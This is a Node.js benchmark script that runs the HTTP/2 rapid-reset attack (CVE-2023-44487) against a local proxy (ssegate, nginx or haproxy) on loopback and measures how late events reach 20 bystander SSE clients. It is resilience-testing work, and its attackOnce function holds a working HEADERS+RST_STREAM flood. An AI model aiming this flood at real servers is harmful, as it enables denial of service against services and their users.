// rapid-reset.mjs: the rapid-reset attack (CVE-2023-44487) against an h2c front proxy, with bystanders.
// One attacker sends HEADERS+RST_STREAM pairs and reconnects after each GOAWAY (or close); meanwhile 20
// HTTP/2 SSE clients (one connection each) on an unrelated backend measure how late each event arrives.
// Prints one JSON line:
// backend connections and requests the attacked backend saw, attacker connections, GOAWAYs, pairs sent, and
// the bystanders' event lateness (p50, p99, max, in ms) and event counts.
//
// Usage: node bench/rapid-reset.mjs --target ssegate|nginx|haproxy [--bin PATH] [--seconds 10]
//        [--mode batch|split] [--pairs-per-write 100] [--max-conns 100000]
//   batch: each write carries --pairs-per-write HEADERS+RST pairs (the CVE shape);
//   split: HEADERS, then a PING round trip, then its RST_STREAM (each stream reaches the proxy's start).
// Bounded in time (--seconds) and in count (--max-conns attacker connections); loopback only. Everything it
// starts is stopped by PID at the end.
import { fork, spawn } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import http2 from 'node:http2';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { E, F, PREFACE, T, frame, parseFrames, request, settingsPayload, u32 } from '../tests/h2probe/frames.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const args = Object.fromEntries(
    process.argv.slice(2).reduce((acc, a, i, all) => (a.startsWith('--') ? [...acc, [a.slice(2), all[i + 1]]] : acc), []),
);
const now = () => performance.timeOrigin + performance.now();
const sleep = ms => new Promise(r => setTimeout(r, ms));

/* ---- child: the two backends ---- */
if (process.argv[2] === 'backends') {
    let accepts = 0, requests = 0;
    const counted = http.createServer((req, res) => {
        requests++;
        res.writeHead(200, { 'content-type': 'text/event-stream' });
        res.write('data: hello\n\n');
        req.on('close', () => res.destroy());
    });
    counted.on('connection', () => accepts++);
    const streams = new Set();
    const sse = http.createServer((req, res) => {
        res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
        res.flushHeaders();
        streams.add(res);
        req.on('close', () => streams.delete(res));
    });
    setInterval(() => {
        const line = `data: ${now().toFixed(3)}\n\n`;
        for (const r of streams) r.write(line);
    }, 20);
    counted.listen(0, '127.0.0.1', () =>
        sse.listen(0, '127.0.0.1', () => process.send({ counted: counted.address().port, sse: sse.address().port })));
    process.on('message', m => {
        if (m === 'count') process.send({ accepts, requests });
    });
} else if (process.argv[2] === 'bystanders') {
    /* ---- child: 20 SSE clients measuring event lateness ---- */
    const [port, n] = [Number(process.argv[3]), Number(process.argv[4] || 20)];
    const lat = [];
    let events = 0, errors = 0, open = 0;
    for (let i = 0; i < n; i++) {
        /* HTTP/2 (h2c prior knowledge), one connection each: every front proxy here listens for h2c only. */
        const session = http2.connect(`http://127.0.0.1:${port}`, { localAddress: `127.0.0.${100 + i}` });
        session.on('error', () => errors++);
        const req = session.request({ ':path': `/sse/by${i}` });
        req.on('response', () => open++);
        req.setEncoding('utf8');
        let buf = '';
        req.on('data', d => {
            const t = now();
            buf += d;
            let k;
            while ((k = buf.indexOf('\n\n')) >= 0) {
                const ev = buf.slice(0, k);
                buf = buf.slice(k + 2);
                const m = /^data: ([0-9.]+)$/m.exec(ev);
                if (m) {
                    events++;
                    if (measuring) lat.push(t - Number(m[1]));
                }
            }
        });
        req.on('error', () => errors++);
    }
    let measuring = false;
    process.on('message', m => {
        if (m === 'start') {
            measuring = true;
            lat.length = 0;
            events = 0;
        } else if (m === 'stop') {
            measuring = false;
            lat.sort((a, b) => a - b);
            const q = p => (lat.length ? lat[Math.min(lat.length - 1, Math.floor(p * lat.length))] : null);
            process.send({ open, events, errors, p50: q(0.5), p99: q(0.99), max: lat.length ? lat[lat.length - 1] : null });
        }
    });
    process.send('ready');
} else {
    await main();
}

function rpc(child, msg) {
    return new Promise(resolve => {
        child.once('message', resolve);
        child.send(msg);
    });
}

function waitPort(port) {
    return new Promise((resolve, reject) => {
        const deadline = Date.now() + 10000;
        const tryOnce = () => {
            const s = net.connect({ port, host: '127.0.0.1' });
            s.once('connect', () => {
                s.destroy();
                resolve();
            });
            s.once('error', () => (Date.now() > deadline ? reject(new Error(`port ${port} not listening`)) : setTimeout(tryOnce, 50)));
        };
        tryOnce();
    });
}

function freePort() {
    return new Promise(resolve => {
        const s = net.createServer();
        s.listen(0, '127.0.0.1', () => {
            const { port } = s.address();
            s.close(() => resolve(port));
        });
    });
}

function startProxy(target, port, ports, dir) {
    if (target === 'ssegate') {
        const yaml = `apiVersion: gateway.networking.k8s.io/v1
kind: Gateway
metadata: {name: gw}
spec:
  addresses: [{type: IPAddress, value: 127.0.0.1}]
  listeners: [{name: http, protocol: HTTP, port: ${port}}]
---
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {name: attacked}
spec:
  parentRefs: [{name: gw}]
  rules: [{matches: [{path: {type: PathPrefix, value: /a}}], backendRefs: [{name: 127.0.0.1, port: ${ports.counted}}]}]
---
apiVersion: gateway.networking.k8s.io/v1
kind: HTTPRoute
metadata: {name: bystander}
spec:
  parentRefs: [{name: gw}]
  rules: [{matches: [{path: {type: PathPrefix, value: /sse}}], backendRefs: [{name: 127.0.0.1, port: ${ports.sse}}]}]
`;
        fs.writeFileSync(path.join(dir, 'gw.yaml'), yaml);
        const extra = (args['proxy-args'] || '').split(' ').filter(Boolean);
        return spawn(args.bin || path.join(here, '../build/ssegate'),
            ['-c', path.join(dir, 'gw.yaml'), '--workers', '2', '--access-log', 'off', ...extra], { stdio: ['ignore', 'ignore', 'pipe'] });
    }
    if (target === 'nginx') {
        for (const d of ['client_body', 'proxy_temp', 'fastcgi_temp', 'uwsgi_temp', 'scgi_temp']) fs.mkdirSync(path.join(dir, d));
        const loc = (p, up) => `location ${p} { proxy_pass http://127.0.0.1:${up}; proxy_http_version 1.1;
            proxy_set_header Connection ""; proxy_buffering off; proxy_read_timeout 1h; }`;
        fs.writeFileSync(path.join(dir, 'nginx.conf'), `user root; worker_processes 2; worker_rlimit_nofile 20000;
events { use epoll; worker_connections 19500; }
http { access_log off; client_body_temp_path ${dir}/client_body; proxy_temp_path ${dir}/proxy_temp;
  fastcgi_temp_path ${dir}/fastcgi_temp; uwsgi_temp_path ${dir}/uwsgi_temp; scgi_temp_path ${dir}/scgi_temp;
  server { listen 127.0.0.1:${port} http2 reuseport; http2_max_concurrent_streams 256;
    ${loc('/a', ports.counted)} ${loc('/sse', ports.sse)} } }
`);
        return spawn('nginx', ['-c', path.join(dir, 'nginx.conf'), '-g', `daemon off; pid ${dir}/nginx.pid; error_log ${dir}/error.log;`],
            { stdio: ['ignore', 'ignore', 'pipe'] });
    }
    if (target === 'haproxy') {
        fs.writeFileSync(path.join(dir, 'haproxy.cfg'), `global
    nbthread 2
    maxconn 9800
    tune.h2.max-concurrent-streams 256
defaults
    mode http
    option http-no-delay
    timeout connect 5s
    timeout client 1h
    timeout server 1h
frontend fe
    bind 127.0.0.1:${port} proto h2
    use_backend sse if { path_beg /sse }
    default_backend attacked
backend attacked
    server a1 127.0.0.1:${ports.counted} maxconn 0
backend sse
    server s1 127.0.0.1:${ports.sse} maxconn 0
`);
        return spawn('haproxy', ['-f', path.join(dir, 'haproxy.cfg'), '-db'], { stdio: ['ignore', 'ignore', 'pipe'] });
    }
    throw new Error(`unknown target ${target}`);
}

/* One attacker connection: returns {pairs, goaway} when the connection ends (GOAWAY or close). */
function attackOnce(port, mode, perWrite, firstId, deadline, localAddress) {
    return new Promise(resolve => {
        const sock = net.connect({ port, host: "127.0.0.1", localAddress, noDelay: true });
        let buf = Buffer.alloc(0);
        let pairs = 0, goaway = null, id = firstId, done = false, pingWait = null;
        const finish = () => {
            if (done) return;
            done = true;
            sock.destroy();
            resolve({ pairs, goaway, nextId: id });
        };
        sock.on('error', finish);
        sock.on('close', finish);
        sock.on('data', d => {
            buf = Buffer.concat([buf, d]);
            const { frames, rest } = parseFrames(buf);
            buf = rest;
            for (const f of frames) {
                if (f.type === T.SETTINGS && !(f.flags & F.ACK)) sock.write(frame(T.SETTINGS, F.ACK, 0));
                if (f.type === T.GOAWAY) {
                    goaway = f.payload.readUInt32BE(4);
                    setImmediate(finish);
                }
                if (f.type === T.PING && f.flags & F.ACK && pingWait) {
                    const w = pingWait;
                    pingWait = null;
                    w();
                }
            }
        });
        sock.on('connect', async () => {
            sock.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0, settingsPayload([]))]));
            while (!done && Date.now() < deadline && id < 2 ** 31 - 1000) {
                if (mode === 'batch') {
                    const chunks = [];
                    for (let i = 0; i < perWrite; i++, id += 2, pairs++) {
                        chunks.push(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, id, request(`/a/${id}`)));
                        chunks.push(frame(T.RST_STREAM, 0, id, u32(E.CANCEL)));
                    }
                    if (!sock.write(Buffer.concat(chunks))) await new Promise(r => sock.once('drain', r));
                    await new Promise(r => setImmediate(r));
                } else {
                    sock.write(frame(T.HEADERS, F.END_HEADERS | F.END_STREAM, id, request(`/a/${id}`)));
                    await new Promise(r => {
                        pingWait = r;
                        sock.write(frame(T.PING, 0, 0, Buffer.alloc(8)));
                        setTimeout(r, 1000);
                    });
                    sock.write(frame(T.RST_STREAM, 0, id, u32(E.CANCEL)));
                    id += 2;
                    pairs++;
                }
            }
            if (!done) setTimeout(finish, 100);
        });
    });
}

async function main() {
    const target = args.target || 'ssegate';
    const seconds = Number(args.seconds || 10);
    const mode = args.mode || 'batch';
    const perWrite = Number(args['pairs-per-write'] || 100);
    const maxConns = Number(args['max-conns'] || 100000);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sg-rapid-reset-'));
    const kids = [];
    const stopAll = () => {
        for (const k of kids) {
            try {
                process.kill(k.pid, 'SIGKILL');
            } catch {
                /* gone */
            }
        }
        fs.rmSync(dir, { recursive: true, force: true });
    };
    process.on('exit', stopAll);
    try {
        const be = fork(fileURLToPath(import.meta.url), ['backends'], { stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
        kids.push(be);
        const ports = await new Promise(r => be.once('message', r));
        const port = await freePort();
        const proxy = startProxy(target, port, ports, dir);
        kids.push(proxy);
        let perr = '';
        proxy.stderr.on('data', d => (perr = (perr + d).slice(-4000)));
        await waitPort(port);
        const by = fork(fileURLToPath(import.meta.url), ['bystanders', String(port), '20'], { stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
        kids.push(by);
        await new Promise(r => by.once('message', r));
        await sleep(1000);
        const before = await rpc(be, 'count');
        by.send('start');
        const t0 = Date.now();
        const deadline = t0 + seconds * 1000;
        let conns = 0, pairs = 0, goaways = 0, id = 1;
        const codes = {};
        while (Date.now() < deadline && conns < maxConns) {
            const r = await attackOnce(port, mode, perWrite, 1, deadline, args.spread ? `127.0.0.${2 + (conns % 50)}` : undefined);
            conns++;
            pairs += r.pairs;
            id = r.nextId;
            if (r.goaway !== null) {
                goaways++;
                codes[r.goaway] = (codes[r.goaway] || 0) + 1;
            }
        }
        const elapsed = (Date.now() - t0) / 1000;
        await sleep(500);
        const bys = await rpc(by, 'stop');
        const after = await rpc(be, 'count');
        const res = {
            target, mode, seconds: +elapsed.toFixed(2), attacker_conns: conns, pairs, goaways, goaway_codes: codes,
            backend_accepts: after.accepts - before.accepts, backend_requests: after.requests - before.requests,
            backend_accepts_per_s: Math.round((after.accepts - before.accepts) / elapsed),
            bystander: { open: bys.open, events: bys.events, errors: bys.errors,
                p50_ms: bys.p50 && +bys.p50.toFixed(2), p99_ms: bys.p99 && +bys.p99.toFixed(2), max_ms: bys.max && +bys.max.toFixed(2) },
            proxy_alive: proxy.exitCode === null,
        };
        void id;
        console.log(JSON.stringify(res));
        if (args.verbose) console.error(perr);
    } finally {
        stopAll();
        process.exit(0);
    }
}
